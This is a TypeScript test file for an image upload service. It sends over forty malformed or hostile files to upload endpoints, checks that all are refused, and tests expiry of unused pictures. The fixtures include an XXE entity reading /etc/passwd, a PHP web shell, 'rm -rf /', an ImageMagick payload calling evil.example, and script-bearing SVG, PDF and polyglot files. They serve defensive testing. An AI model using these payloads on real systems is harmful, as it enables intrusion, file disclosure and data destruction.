import { deflateSync, gzipSync } from 'node:zlib'
import sharp, { type Sharp } from 'sharp'
import { describe, expect, it } from 'vitest'
import { discardAgencyUnless } from '../../modules/core/media/discard.service'
import { media, uploads } from '../../modules/core/media/table'
import { maxUploadBytes } from '../../modules/core/media/upload.rules'
import { createSystemContext } from '../../platform/server/context'
import { useApp } from '../../testing/app'
import { runJobs } from '../../testing/context'
import { useDatabase } from '../../testing/database'
import { aWorld, getCookie } from '../../testing/world'
import { toPngChunk, pngSignature } from '../../testing/png'

/** Sends non-pictures and malicious pictures to real upload addresses. */

const database = useDatabase()
const site = useApp(database)

const latin = (text: string) => Buffer.from(text, 'latin1')
const photo = (color = 'teal', width = 640) => sharp({ create: { width, height: 480, channels: 3, background: color } })
const noise = () =>
  sharp({
    create: {
      width: 300,
      height: 200,
      channels: 3,
      noise: { type: 'gaussian', mean: 128, sigma: 40 },
      background: '#888',
    },
  })

/** Builds a PNG that declares one size and holds other data. */
const png = (width: number, height: number, data: Buffer, colorType = 0) => {
  const header = Buffer.alloc(13)
  header.writeUInt32BE(width, 0)
  header.writeUInt32BE(height, 4)
  header.set([8, colorType], 8)
  return Buffer.concat([
    pngSignature,
    toPngChunk('IHDR', header),
    toPngChunk('IDAT', data),
    toPngChunk('IEND', Buffer.alloc(0)),
  ])
}
const gifScreen = (side: number) => {
  const data = latin(
    'GIF89a\x00\x00\x00\x00\x80\x00\x00\x00\x00\x00\xff\xff\xff,\x00\x00\x00\x00\x00\x00\x00\x00\x00\x02\x02D\x01\x00;',
  )
  for (const at of [6, 8, 24, 26]) data.writeUInt16LE(side, at)
  return data
}
const cut = async (image: Sharp, share: number) => {
  const data = await image.toBuffer()
  return data.subarray(0, Math.floor(data.length * share))
}
const damaged = async (image: Sharp) => {
  const data = await image.toBuffer()
  return Buffer.concat([data.subarray(0, 12), Buffer.alloc(data.length - 12, 0x41)])
}
const svg = '<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><script>alert(1)</script></svg>'
const isoBox = (brand: string) => latin(`\x00\x00\x00\x1cftyp${brand}\x00\x00\x00\x00mif1miaf`)

const hostile: Record<string, () => Buffer | Promise<Buffer>> = {
  'a drawing with a script': () => latin(svg),
  'a drawing behind a byte order mark': () => Buffer.from(`\ufeff${svg}`),
  'a drawing that reads a file': () =>
    latin(`<?xml version="1.0"?><!DOCTYPE s [<!ENTITY x SYSTEM "file:///etc/passwd">]>${svg}`),
  'a drawing of a billion laughs': () => latin(`<!DOCTYPE s [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]>${svg}`),
  'a compressed drawing': () => gzipSync(svg),
  'a page': () => latin('<!doctype html><script>alert(1)</script>'),
  'a script': () => latin('alert(document.cookie)'),
  'a shell script': () => latin('#!/bin/sh\nrm -rf /\n'),
  'a PHP file': () => latin('<?php system($_GET["c"]); ?>'),
  'drawing commands of ImageMagick': () =>
    latin('push graphic-context\nfill "url(https://evil.example/|id)"\npop graphic-context'),
  'a PostScript file': () => latin('%!PS-Adobe-3.0 EPSF-3.0\n(/etc/passwd) (r) file'),
  'a PDF': () => latin('%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj'),
  'a zip archive': () => latin('PK\x03\x04\x14\x00\x00\x00\x08\x00'),
  'a program for Windows': () => latin('MZ\x90\x00\x03\x00\x00\x00'),
  'a program for Linux': () => latin('\x7fELF\x02\x01\x01\x00'),
  'a film': () => isoBox('isom'),
  'an iPhone picture': () => isoBox('heic'),
  'a film as WebM': () => latin('\x1a\x45\xdf\xa3\x01\x00\x00\x00'),
  'a sound': () => latin('RIFF\x24\x00\x00\x00WAVEfmt '),
  'a song': () => latin('ID3\x03\x00\x00\x00\x00\x00\x00'),
  'a TIFF': () => photo().tiff().toBuffer(),
  'a bitmap': () => latin('BM\x46\x00\x00\x00\x00\x00\x00\x00\x36\x00\x00\x00'),
  'an icon': () => latin('\x00\x00\x01\x00\x01\x00\x10\x10\x00\x00'),
  'a Photoshop file': () => latin('8BPS\x00\x01\x00\x00\x00\x00\x00\x00'),
  'a JPEG XL': () => latin('\xff\x0a\xff\x07\x08\x83\x04\x0c'),
  nothing: () => Buffer.alloc(0),
  'one byte': () => latin('\xff'),
  zeros: () => Buffer.alloc(100_000),
  'a PNG signature alone': () => pngSignature,
  'a truncated PNG': () => cut(noise().png(), 0.6),
  'a PNG of 256 megapixels': () => png(16_000, 16_000, deflateSync(Buffer.alloc(1000))),
  'a PNG whose sides overflow': () => png(0x7fffffff, 0x7fffffff, deflateSync(Buffer.alloc(10))),
  'a PNG with no side': () => png(0, 10, deflateSync(Buffer.alloc(10))),
  'a PNG with too few pixels': () => png(100, 100, deflateSync(Buffer.alloc(50))),
  'a PNG with pixels that are no zlib': () => png(10, 10, latin('this is not compressed')),
  'a JPEG signature before a page': () => latin('\xff\xd8\xff\xe0<html><script>alert(1)</script>'),
  'a truncated JPEG': () => cut(noise().jpeg(), 0.5),
  'a damaged JPEG': () => damaged(noise().jpeg()),
  'a script that begins as a GIF': () => latin('GIF89a=1;alert(1)//'),
  'a GIF of four gigapixels': () => gifScreen(65_535),
  'a truncated WebP': () => cut(noise().webp(), 0.5),
  'a damaged WebP': () => damaged(noise().webp()),
  'an AVIF of a header alone': () => isoBox('avif'),
  'a PNG that says that it is a WebP': async () =>
    Buffer.concat([latin('RIFF\xff\x00\x00\x00WEBP'), await photo().png().toBuffer()]),
  'a picture over 5 MB': async () => Buffer.concat([await photo().jpeg().toBuffer(), Buffer.alloc(maxUploadBytes)]),
}

const start = async () => {
  const answer = await site.call('POST', '/api/objects/upload', undefined, getCookie(await aWorld(site.deps), 'agent'))
  return String(answer.json().uploadURL).replace('http://itinera.test', '')
}
const send = (url: string, payload: Buffer) =>
  site.app.inject({ method: 'PUT', url, payload, headers: { 'content-type': 'image/png' } })

describe('hostile files', () => {
  it('are at least forty, and none of them is stored', async () => {
    const names = Object.keys(hostile)
    expect(names.length).toBeGreaterThanOrEqual(40)
    const before = site.deps.storage.files.size
    for (const name of names) {
      const url = await start()
      const answer = await send(url, await hostile[name]!())
      expect([name, answer.statusCode]).toEqual([name, name === 'a picture over 5 MB' ? 413 : 400])
      expect((await site.get(url.split('?')[0]!)).statusCode).toBe(404)
    }
    expect(await database.db.$count(media)).toBe(0)
    expect(site.deps.storage.files.size).toBe(before)
  })
})

describe("the agency's pictures", () => {
  const day = 86_400
  it('are discarded with their files after 30 days without use, unless they were sent again', async () => {
    const [first, other] = [await start(), await start()]
    const { image } = (await send(first, await photo('indigo').png().toBuffer())).json() as { image: string }
    await send(other, await photo('olive').png().toBuffer())
    const isGone = () =>
      ![...site.deps.storage.files.keys()].some((file) => file.startsWith(image.slice('/media/'.length)))
    await runJobs(site.deps)
    expect(isGone()).toBe(false)
    site.deps.clock.advance(20 * day)
    await send(await start(), await photo('olive').png().toBuffer())
    site.deps.clock.advance(11 * day)
    await runJobs(site.deps)
    expect([await database.db.$count(media), await database.db.$count(uploads)]).toEqual([1, 2])
    expect(isGone()).toBe(true)
    expect((await site.get(first.split('?')[0]!)).statusCode).toBe(404)
    expect((await site.get(other.split('?')[0]!)).statusCode).toBe(200)
    site.deps.clock.advance(20 * day)
    await runJobs(site.deps)
    expect(await database.db.$count(media)).toBe(0)
    site.deps.clock.set('2027-03-01T12:00:00Z')
  })

  it('stay while something shows or describes them', async () => {
    const url = await start()
    await send(url, await photo('navy').png().toBuffer())
    const [{ id }] = (await database.db.select({ id: media.id }).from(media)) as [{ id: string }]
    const late = { ...createSystemContext(site.deps), now: () => new Date('2028-01-01T00:00:00Z') }
    await discardAgencyUnless(late, { mediaIds: [id] }, async () => [id])
    expect(await database.db.$count(media)).toBe(1)
    await database.db.update(media).set({ alt: 'The harbor at night' })
    await discardAgencyUnless(late, { mediaIds: [id] }, async () => [])
    expect(await database.db.$count(media)).toBe(1)
    await database.db.update(media).set({ alt: '' })
    await discardAgencyUnless(late, { mediaIds: [id] }, async () => [])
    expect(await database.db.$count(media)).toBe(0)
  })
})
